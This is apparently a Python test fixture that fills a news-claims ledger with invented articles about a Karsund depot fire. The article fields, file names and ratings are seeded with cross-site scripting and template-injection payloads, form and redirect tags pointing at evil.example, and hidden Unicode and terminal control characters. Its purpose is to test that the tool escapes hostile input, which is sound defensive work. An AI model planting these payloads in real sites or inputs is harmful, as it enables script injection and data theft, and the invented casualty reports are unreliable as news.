"""Articles that want to be more than text: scripts, handlers, templates, controls, in every field.

Every payload would set ``window.pwned``, ask this server for /leak, or another for anything.
"""

import json
from pathlib import Path

from tests.workbench.conftest import run

__all__ = ["CONTROLS", "PAYLOADS", "SHOWN", "hostile_ledger"]

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=/leak onerror=window.pwned=2>",
    "<svg onload=window.pwned=3><animate onbegin=window.pwned=4 attributeName=x dur=1s>",
    "\"'><b onmouseover=window.pwned=5 autofocus tabindex=1 onfocus=window.pwned=6>",
    "<a href=javascript:window.pwned=7>",
    "</title></textarea></script></style></template><script>window.pwned=8</script>",
    "<div hx-get=/leak hx-trigger=load hx-on::load='window.pwned=9' data-hx-get=/leak>",
    "<form action=//evil.example id=find><input name=csrf></form><base href=//evil.example>",
    "<iframe srcdoc='<script>parent.pwned=10</script>'></iframe><link rel=stylesheet href=/leak>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><style>*{display:none}</style>",
    "{{ 7*7 }}{% raise %}{# gone #}${7*7}<%= 7*7 %>",
    "<!-- --><![CDATA[ ]]>&lt;script&gt;window.pwned=11&lt;/script&gt;&#x3c;img&#x3e;",
)
CONTROLS = "\u202egnp.exe\u202c \u2066a\u2069 x\u200by \x1b[2Jz \x07 \U000e0041"
SHOWN = ("[U+202E]gnp.exe", "[U+001B][2Jz")
"""How controls are made visible."""


def hostile_ledger(folder: Path) -> Path:
    """A ledger of one story in five such articles, with a decision and a rating."""
    inputs = folder / "in"
    inputs.mkdir()
    name = "<img src=x onerror=window.pwned=12>\u202e{{7*7}}"
    rows = [_row(n, *told) for n, told in enumerate(_TOLD)]
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (inputs / f"{name}.jsonl").write_text(lines, "utf-8")
    (inputs / f"{name}.txt").write_text("\n\n".join((_row(9, *_TOLD[0])["body"], CONTROLS)))
    (inputs / f"{name}.pdf").write_bytes(b"\x00\x01<script>window.pwned=13</script>")
    ledger = folder / "hostile.db"
    run("add", inputs, "--ledger", ledger)
    told = f"{PAYLOADS[0]} {PAYLOADS[3]} {CONTROLS}".replace("\x1b", "").replace("\x07", "")
    claims = json.loads(run("claims", "--json", "--ledger", ledger))["rows"]
    as_who = ("--as", f"Eve {PAYLOADS[1]}", "--ledger", ledger)
    run("rate", str(rows[0]["source"]), "B", "--why", told, "--owner", PAYLOADS[1], *as_who)
    run("rate", claims[0]["id"], "2", "--why", told, *as_who)
    pairs = json.loads(run("judge", "--kind", "claims", "--all", "--json", "--ledger", ledger))
    for pair in pairs["rows"][:2]:
        two = (pair["left"]["id"], pair["right"]["id"])
        run("judge", *two, "same", "--kind", "claims", "--why", told, *as_who)
    return ledger


_TOLD = (
    ("at least 12 people were killed and about 80 were injured", "Monday", "14"),
    ("12 people were killed", "Monday", "15"),
    ("as many as 20 people were killed and 80 were injured", "Tuesday", "15"),
    ("31 people were killed", "Tuesday", "16"),
    ("no more than 9 people were killed", "Tuesday", "16"),
)


def _row(n: int, toll: str, day: str, date: str) -> dict[str, str]:
    one, other = PAYLOADS[n % len(PAYLOADS)], PAYLOADS[(n + 5) % len(PAYLOADS)]
    rest = "\n\n".join(f"{CONTROLS if not i else ''}{p}" for i, p in enumerate(PAYLOADS))
    body = (
        f"KARSUND, Norway - A fire at the oil depot of Karsund on {day} {one} burned on.\n\n"
        f"In the fire {toll}, said Rosa “{other}” Quispe, head of the {one} Rescue Service.\n\n"
        f'"We {other} have not reached all of the tanks," said Quispe, the {other} chief.\n\n'
        f"Karsund mayor {one} Julio Mamani denied that {toll} in the depot <b>fire</b>.\n\n"
        f"The company Nordfar{one} could not confirm that the {other} tanks had burned.\n\n{rest}"
    )
    return {
        "headline": f"Fire at Karsund depot: {toll} {one}",
        "source": f"Karsund Post {n} {other}",
        "author": f"By Ann {one}",
        "date": f"2026-09-{date}",
        "link": f"javascript:window.pwned=14//{n}",
        "body": body,
    }
